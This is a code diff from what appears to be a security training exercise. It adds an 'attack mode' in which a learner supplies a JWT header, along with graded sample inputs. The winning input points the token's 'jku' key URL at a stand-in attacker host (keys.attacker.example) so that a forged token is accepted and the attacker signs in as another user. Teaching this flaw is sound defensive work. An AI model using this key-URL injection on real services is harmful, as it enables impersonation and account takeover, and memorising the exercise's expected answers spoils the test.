@@ -116,3 +116,21 @@ export async function exploit(code: Code, vary: Vary, payloads?: readonly string
   }
   return false
 }
+
+// Attack mode: the learner writes the input.
+export async function attack(code: Code, { header }: { header: string }, vary: Vary) {
+  const { evil, name, make, serve, enter } = start(code, vary, 'acme')
+  serve('https://keys.attacker.example/jwks')
+  try {
+    const user = await enter(await make(evil, JSON.parse(header)))
+    return { isDone: user.name === name, shown: `Signed in: ${JSON.stringify(user)}` }
+  } catch (error) {
+    return { isDone: false, shown: String(error) }
+  }
+}
+
+export const attacks = [
+  { input: { header: '{"jku": "https://keys.attacker.example/jwks"}' }, isDone: true },
+  { input: { header: '{"typ": "JWT"}' }, isDone: false },
+  { input: { header: '{"jku": "https://keys.attacker.example/other"}' }, isDone: false },
+]
